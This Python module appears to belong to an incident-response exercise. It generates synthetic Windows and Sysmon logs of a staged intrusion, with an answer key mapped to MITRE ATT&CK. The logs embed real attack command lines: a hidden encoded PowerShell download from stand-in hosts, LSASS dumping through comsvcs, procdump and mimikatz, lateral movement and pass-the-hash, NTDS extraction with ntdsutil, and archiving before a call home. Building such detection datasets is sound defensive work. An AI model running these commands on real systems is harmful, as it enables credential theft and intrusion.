"""The planted attack: a document opens a door, credentials are stolen, and someone moves from host to host.

What is planted is written down as it is planted: that is the truth. Techniques carry their numbers in MITRE
ATT&CK (https://attack.mitre.org). Reads nothing of what an ordinary day looks like.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field

from examples.incident_response.company import MANAGEMENT, Company, Host
from examples.incident_response.recorder import Recorder

TECHNIQUES = {
    "T1566.001": "Spearphishing Attachment",
    "T1059.001": "PowerShell",
    "T1071.001": "Web Protocols",
    "T1003.001": "LSASS Memory",
    "T1003.003": "NTDS",
    "T1021.001": "Remote Desktop Protocol",
    "T1021.002": "SMB/Windows Admin Shares",
    "T1021.006": "Windows Remote Management",
    "T1047": "Windows Management Instrumentation",
    "T1550.002": "Pass the Hash",
    "T1204.002": "Malicious File",
    "T1560.001": "Archive via Utility",
}
_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_LOADER = "4F9C1D2A7B3E60518C9D0E1F2A3B4C5D6E7F8091A2B3C4D5E6F708192A3B4C5D"
_SERVICE = "A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F90"
_INFRASTRUCTURE = (
    ("sync-telemetry.example", "203.0.113.17"),
    ("cdn-metrics.example", "203.0.113.64"),
    ("invoice-portal.example", "203.0.113.201"),
)
_WAYS = ("service", "wmi", "winrm", "rdp")
_TECHNIQUE = {"service": "T1021.002", "wmi": "T1047", "winrm": "T1021.006", "rdp": "T1021.001"}
_PORT = {"service": 445, "wmi": 135, "winrm": 5985, "rdp": 3389}


@dataclass
class Truth:
    """What was planted.

    Attributes:
        lateral_movement: Whether anyone moved between hosts.
        hosts: Compromised ones, in the order they were.
        accounts: Those the attacker acted as.
        path: Each step: time, source, target, account, technique.
        techniques: All numbers.
        indicators: The attacker's names and addresses in the logs.
    """

    lateral_movement: bool = False
    hosts: list[str] = field(default_factory=list)
    accounts: list[str] = field(default_factory=list)
    path: list[dict[str, str]] = field(default_factory=list)
    techniques: list[str] = field(default_factory=list)
    indicators: list[str] = field(default_factory=list)

    def add(self, known: list[str], *items: str) -> None:
        """Note what is not noted yet."""
        known.extend(item for item in items if item not in known)


class Attack:
    """Plants an attack.

    Args:
        company: Where.
        recorder: What writes.
        first: The first host.
        stolen: The account whose credentials lie in its memory.
    """

    def __init__(self, company: Company, recorder: Recorder, first: Host, stolen: str) -> None:
        self.company = company
        self.recorder = recorder
        self.chance = recorder.chance
        self.truth = Truth()
        self._first = first
        self._accounts = [stolen]
        self._acting = {first.name: first.owner}
        self._controller = company.hosts["DC-01"]
        self._domain, self._address = self.chance.choice(_INFRASTRUCTURE)

    def foothold(self, at: float) -> float:
        """A document runs a script that calls home; gives when it is done."""
        host, user, record = self._first, self._first.owner, self.recorder
        self.truth.add(self.truth.hosts, host.name)
        self.truth.add(self.truth.accounts, user)
        self.truth.add(self.truth.techniques, "T1566.001", "T1059.001", "T1071.001")
        script = base64.b64encode(f"iwr http://{self._domain}/a".encode("utf-16-le")).decode()
        command = f"powershell.exe -nop -w hidden -enc {script}"
        record.process(at, host, _POWERSHELL, command, _WORD, user)
        self._calls_home(at + 2, host, user, _POWERSHELL)
        loader = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{self._word()}.exe"
        record.sysmon(at + 6, host, 11, Image=_POWERSHELL, TargetFilename=loader)
        self._runs_known_file(at + 8, host, loader, _POWERSHELL, user, _LOADER)
        self._calls_home(at + 11, host, user, loader)
        return self._discovers(at + self.chance.uniform(60, 300), host, user)

    def _runs_known_file(
        self, at: float, host: Host, binary: str, parent: str, account: str, sha256: str
    ) -> None:
        if host.sysmon:  # the Security log has no hashes
            self.truth.add(self.truth.indicators, sha256)
            self.truth.add(self.truth.techniques, "T1204.002")
        self.recorder.process(at, host, binary, binary, parent, account, sha256)

    def _calls_home(self, at: float, host: Host, user: str, image: str) -> None:
        self.truth.add(self.truth.indicators, *([self._domain, self._address] if host.sysmon else []))
        self.recorder.sysmon(
            at, host, 22, QueryName=self._domain, QueryStatus="0", QueryResults=self._address, Image=image
        )
        self._connects(at + 0.2, host, user, image, self._address, 443)

    def _connects(self, at: float, host: Host, user: str, image: str, address: str, port: int) -> None:
        self.recorder.sysmon(
            at,
            host,
            3,
            Image=image,
            User=f"CORP\\{user}",
            Protocol="tcp",
            Initiated="true",
            SourceIp=host.address,
            DestinationIp=address,
            DestinationPort=str(port),
        )

    def _discovers(self, at: float, host: Host, user: str) -> float:
        commands = ("whoami.exe /all", 'net.exe group "domain admins" /domain', "nltest.exe /dclist:corp")
        for command in self.chance.sample(commands, 2):
            self.recorder.process(at, host, command.partition(" ")[0], command, "cmd.exe", user)
            at += self.chance.uniform(5, 40)
        return at

    def dump(self, at: float, host: Host, account: str) -> float:
        """Credentials are read from memory in one of three ways; gives when that is done."""
        self.truth.add(self.truth.techniques, "T1003.001")
        dumped = f"C:\\Windows\\Temp\\{self._word()}.dmp"
        image, command = self.chance.choice(
            (
                (
                    "C:\\Windows\\System32\\rundll32.exe",
                    f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 {dumped} full",
                ),
                ("C:\\Windows\\Temp\\pd64.exe", f"pd64.exe -accepteula -ma lsass.exe {dumped}"),
                ("C:\\Windows\\Temp\\out.exe", "out.exe sekurlsa::logonpasswords exit"),
            )
        )
        self.recorder.process(at, host, image, command, "cmd.exe", account)
        self.recorder.sysmon(
            at + 0.5,
            host,
            10,
            SourceImage=image,
            TargetImage="C:\\Windows\\System32\\lsass.exe",
            GrantedAccess=self.chance.choice(("0x1010", "0x1410", "0x1fffff")),
            CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00000221A1D30000)",
        )
        if dumped in command:
            self.recorder.sysmon(at + 1, host, 11, Image=image, TargetFilename=dumped)
        return at + self.chance.uniform(60, 400)

    def fails_to_move(self, at: float) -> None:
        """Guessed credentials, a logon that fails."""
        target = self.chance.choice([host for host in self.company.workstations if host is not self._first])
        for number in range(3):
            self.recorder.failed_logon(at + 20 * number, target, self._accounts[0], self._first)

    def moves(self, at: float, steps: int) -> None:
        """Go on from host to host; what is stolen on the way is used from then on."""
        self.truth.lateral_movement = True
        reached = [self._first]
        for step, target in enumerate(self._targets(steps)):
            source = reached[-1] if self.chance.random() < 0.8 else self.chance.choice(reached)
            acting = self._acting[source.name]
            account = self._accounts[-1]
            at = self._moves_once(at, source, target, acting, account)
            reached.append(target)
            self._acting.setdefault(target.name, account)
            at = self._discovers(at, target, account)
            if step < steps - 1 and self.chance.random() < 0.6:
                at = self.dump(at, target, account)
                self._accounts.append(self.chance.choice((*self.company.domain_admins, "svc-sql")))
            at += self.chance.uniform(120, 900)
        self._ends(at, reached[-1])

    def _targets(self, steps: int) -> list[Host]:
        """Workstations and servers, without those for management; a server at the end."""
        servers = [host for host in self.company.servers if host.name not in MANAGEMENT]
        stations = [host for host in self.company.workstations if host is not self._first]
        last = self.chance.choice(servers)
        others = [host for host in servers if host is not last]
        way = self.chance.sample([*others, *self.chance.sample(stations, 3)], steps - 1)
        return [*way, last]

    def _moves_once(self, at: float, source: Host, target: Host, acting: str, account: str) -> float:
        way = self.chance.choice(_WAYS)
        self.truth.path.append(
            {
                "time": self.recorder.stamp(at),
                "source": source.name,
                "target": target.name,
                "account": account,
                "technique": _TECHNIQUE[way],
            }
        )
        self.truth.add(self.truth.hosts, target.name)
        self.truth.add(self.truth.accounts, account)
        self.truth.add(self.truth.techniques, _TECHNIQUE[way])
        ntlm = self._at_the_source(at - 3, source, target, acting, account, way)
        at_target = {"service": self._service, "wmi": self._wmi, "winrm": self._winrm, "rdp": self._rdp}
        at_target[way](at, source, target, account, ntlm)
        return at + 30

    def _at_the_source(
        self, at: float, source: Host, target: Host, acting: str, account: str, way: str
    ) -> bool:
        """The credentials are put to use, in the open or as a hash; gives whether NTLM is spoken."""
        record, process = self.recorder, f"C:\\Windows\\Temp\\{self._word()}.exe"
        commands = {
            "service": (process, f"{process} \\\\{target.name} -s cmd.exe"),
            "wmi": ("wmic.exe", f'wmic.exe /node:{target.name} process call create "cmd.exe"'),
            "winrm": (_POWERSHELL, f"powershell.exe Enter-PSSession -ComputerName {target.name}"),
            "rdp": ("mstsc.exe", f"mstsc.exe /v:{target.name}"),
        }
        image, command = commands[way]
        by_hash = way != "rdp" and self.chance.random() < 0.35
        if by_hash:
            self.truth.add(self.truth.techniques, "T1550.002")
            record.logon(at, source, account, 9, process="C:\\Windows\\System32\\svchost.exe")
        else:
            record.explicit(at, source, acting, account, target, image)
        record.process(at + 0.5, source, image, command, "cmd.exe", acting)
        self._connects(at + 1, source, acting, image, target.address, _PORT[way])
        if by_hash:
            record.validated(at + 1.5, self._controller, account, source)
        else:
            record.ticket(at + 1.5, self._controller, account, f"{target.name}$", source)
        return by_hash

    def _service(self, at: float, source: Host, target: Host, account: str, ntlm: bool) -> None:
        record, name = self.recorder, self._word()
        logon = record.logon(at, target, account, 3, source, privileged=True, ntlm=ntlm)
        record.share(at + 0.3, target, account, source, "ADMIN$", logon)
        record.service(at + 1.2, target, name.upper(), f"%SystemRoot%\\{name}.exe")
        key = f"HKLM\\System\\CurrentControlSet\\Services\\{name.upper()}\\ImagePath"
        record.sysmon(
            at + 1.3,
            target,
            13,
            EventType="SetValue",
            Image="C:\\Windows\\System32\\services.exe",
            TargetObject=key,
            Details=f"%SystemRoot%\\{name}.exe",
        )
        binary = f"C:\\Windows\\{name}.exe"
        self._runs_known_file(at + 1.8, target, binary, "services.exe", "SYSTEM", _SERVICE)
        record.process(at + 3, target, "cmd.exe", "cmd.exe /c whoami", binary, "SYSTEM")

    def _wmi(self, at: float, source: Host, target: Host, account: str, ntlm: bool) -> None:
        self.recorder.logon(at, target, account, 3, source, privileged=True, ntlm=ntlm)
        command = f"cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__{self.chance.randrange(10**9)} 2>&1"
        self.recorder.process(at + 1.5, target, "cmd.exe", command, "wmiprvse.exe", account)

    def _winrm(self, at: float, source: Host, target: Host, account: str, ntlm: bool) -> None:
        record = self.recorder
        record.logon(at, target, account, 3, source, privileged=True, ntlm=ntlm)
        record.process(
            at + 1, target, "wsmprovhost.exe", "wsmprovhost.exe -Embedding", "svchost.exe", account
        )
        record.process(at + 2.5, target, "cmd.exe", "cmd.exe /c hostname", "wsmprovhost.exe", account)

    def _rdp(self, at: float, source: Host, target: Host, account: str, ntlm: bool) -> None:
        self.recorder.logon(at, target, account, 10, source, privileged=True, ntlm=ntlm)
        self.recorder.process(at + 8, target, "cmd.exe", "cmd.exe", "C:\\Windows\\explorer.exe", account)

    def _ends(self, at: float, host: Host) -> None:
        account = self.truth.path[-1]["account"]
        if host is self._controller:
            self.truth.add(self.truth.techniques, "T1003.003")
            command = 'ntdsutil.exe "ac i ntds" ifm "create full c:\\windows\\temp\\n" q q'
            self.recorder.process(at, host, "ntdsutil.exe", command, "cmd.exe", account)
            return
        self.truth.add(self.truth.techniques, "T1560.001")
        archive = "C:\\Windows\\Temp\\7za.exe"
        command = f"7za.exe a -p -mhe C:\\Windows\\Temp\\{self._word()}.7z C:\\Teams"
        self.recorder.process(at, host, archive, command, "cmd.exe", account)
        self._calls_home(at + 40, host, account, archive)

    def _word(self) -> str:
        return "".join(self.chance.choice("bcdfghklmnprstvwxyz") for _ in range(7))
